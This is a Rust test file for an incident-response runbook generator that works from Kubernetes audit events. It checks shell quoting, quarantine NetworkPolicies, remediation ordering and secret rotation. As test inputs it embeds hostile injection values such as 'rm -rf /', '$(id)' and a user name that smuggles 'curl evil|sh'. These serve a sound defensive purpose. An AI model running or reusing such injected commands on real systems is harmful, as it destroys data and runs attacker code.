use serde_json::json;

use super::*;
use crate::model::{Action, HistoryEntry};
use crate::scope::{scope, Ev};

pub(crate) fn incident(entities: Vec<Entity>) -> Incident {
    Incident::replay(&[HistoryEntry {
        seq: 1,
        incident: "INC-0007".into(),
        time: "2026-11-27T10:00:00Z".into(),
        actor: "alice".into(),
        action: Action::Opened {
            title: "t".into(),
            alerts: vec![],
            related: vec![],
            entities,
            window_secs: 3600,
            since: 0,
            until: 0,
            timeline: vec![],
        },
        prev: String::new(),
        hash: String::new(),
    }])
    .unwrap()
}

pub(crate) fn ev(loc: u64, doc: serde_json::Value) -> Ev {
    Ev {
        loc,
        partition: "k8s.audit/2026-11-20".into(),
        seq: loc,
        time: 1_000_000 * loc as i64,
        received: 0,
        source: "test".into(),
        dataset: "k8s.audit".into(),
        alert: false,
        raw: doc.clone(),
        doc,
    }
}

fn k8s(loc: u64, user: &str, verb: &str, obj: serde_json::Value, code: i64) -> Ev {
    ev(
        loc,
        json!({"user": {"name": user}, "verb": verb, "objectRef": obj,
               "source": {"ip": "192.0.2.9"}, "level": "Metadata",
               "http": {"response": {"status_code": code}}}),
    )
}

/// Runs `sh -c 'printf %s WORD'` and returns what the shell made of the word.
fn through_shell(word: &str) -> String {
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("printf %s {word}"))
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn shell_quoting_keeps_hostile_values_one_word() {
    for v in [
        "alice",
        "a'b; rm -rf /",
        "$(id)",
        "`id`",
        "x\ny",
        "",
        "system:serviceaccount:ci:deployer",
    ] {
        assert_eq!(through_shell(&sh(v)), v, "{v:?} as {}", sh(v));
    }
}

#[test]
fn network_policy_parses_with_hostile_names() {
    for (inc, ns) in [("INC-0001", "shop"), ("INC-0002", "a\"b: c\n- d")] {
        let y = deny_all_policy(inc, ns);
        let v: serde_norway::Value = serde_norway::from_str(&y).unwrap();
        assert_eq!(v["kind"].as_str(), Some("NetworkPolicy"));
        assert_eq!(v["metadata"]["namespace"].as_str(), Some(ns));
        assert_eq!(
            v["spec"]["podSelector"]["matchLabels"][QUARANTINE_LABEL].as_str(),
            Some(inc)
        );
        let types: Vec<&str> = v["spec"]["policyTypes"]
            .as_sequence()
            .unwrap()
            .iter()
            .filter_map(|t| t.as_str())
            .collect();
        assert_eq!(types, ["Ingress", "Egress"]);
        assert_eq!(v["spec"]["ingress"].as_sequence().map(Vec::len), Some(0));
        assert_eq!(v["spec"]["egress"].as_sequence().map(Vec::len), Some(0));
    }
}

#[test]
fn runbook_steps_for_a_user_with_a_hostile_name() {
    let user = "eve'; curl evil|sh; '";
    let inc = incident(vec![Entity {
        kind: EntityKind::User,
        value: user.into(),
    }]);
    let evs = vec![
        k8s(
            1,
            user,
            "create",
            json!({"resource": "rolebindings", "namespace": "dev", "name": "eve-admin",
                   "apiGroup": "rbac.authorization.k8s.io"}),
            201,
        ),
        k8s(
            2,
            user,
            "patch",
            json!({"resource": "clusterrolebindings", "name": "view",
                   "apiGroup": "rbac.authorization.k8s.io"}),
            200,
        ),
        k8s(
            3,
            user,
            "create",
            json!({"resource": "deployments", "namespace": "dev", "name": "miner",
                   "apiGroup": "apps"}),
            201,
        ),
    ];
    let s = scope(&inc, &evs);
    let rb = runbook(&inc, &s, "/var/lib/vigil");
    // Capture comes before removal.
    let capture = rb
        .find("kubectl get rolebindings.rbac.authorization.k8s.io eve-admin -n dev -o yaml")
        .unwrap();
    let remove = rb
        .find("kubectl delete rolebindings.rbac.authorization.k8s.io eve-admin -n dev")
        .unwrap();
    assert!(capture < remove, "{rb}");
    assert!(
        rb.contains("kubectl delete deployments.apps miner -n dev"),
        "{rb}"
    );
    // A changed binding is restored, not deleted.
    assert!(rb.contains("kubectl apply -f <last known good clusterrolebindings-view>"));
    assert!(!rb.contains("kubectl delete clusterrolebindings.rbac.authorization.k8s.io view"));
    assert!(rb.contains("cannot revoke a client certificate"), "{rb}");
    // The name only ever appears quoted in commands.
    for line in rb.lines().filter(|l| l.contains("curl evil")) {
        if line.starts_with("kubectl") || line.starts_with("vigil") {
            assert!(line.contains(&sh(user)), "unquoted: {line}");
        }
    }
    assert!(rb.contains(&format!("--as {}", sh(user))), "{rb}");
}

#[test]
fn recovery_queries_parse_and_find_the_entity() {
    for (kind, value, doc) in [
        (
            EntityKind::User,
            "eve'; x\"y (z)",
            json!({"user": {"name": "eve'; x\"y (z)"}}),
        ),
        (
            EntityKind::Ip,
            "2001:db8::1",
            json!({"source": {"ip": "2001:db8::1"}, "related": {"ip": ["2001:db8::1"]}}),
        ),
    ] {
        let e = Entity {
            kind,
            value: value.into(),
        };
        let q = vigil_store::query::parse(&activity_query(&e)).unwrap();
        assert!(
            vigil_store::query::matches(&q, &doc),
            "{}",
            activity_query(&e)
        );
        assert!(!vigil_store::query::matches(
            &q,
            &json!({"user": {"name": "bob"}})
        ));
    }
}

#[test]
fn secrets_read_are_rotated() {
    let sa = "system:serviceaccount:ci:deployer";
    let inc = incident(vec![Entity {
        kind: EntityKind::ServiceAccount,
        value: sa.into(),
    }]);
    let evs = vec![
        k8s(
            1,
            sa,
            "list",
            json!({"resource": "secrets", "namespace": "shop"}),
            200,
        ),
        k8s(
            2,
            sa,
            "get",
            json!({"resource": "secrets", "namespace": "ci", "name": "db"}),
            200,
        ),
        k8s(
            3,
            sa,
            "list",
            json!({"resource": "secrets", "namespace": "kube-system"}),
            403,
        ),
    ];
    let rb = runbook(&inc, &scope(&inc, &evs), "d");
    let step = rb
        .lines()
        .find(|l| l.contains("Rotate the secrets that were read"))
        .unwrap();
    assert!(
        step.contains("all Secrets of namespace `shop` (listed), `ci/db`."),
        "{step}"
    );
    assert!(
        !step.contains("kube-system"),
        "a refused read exposed nothing: {step}"
    );
    assert!(
        rb.contains("kubectl get secret db -o custom-columns=NAME:.metadata.name,TYPE:.type -n ci")
    );
}
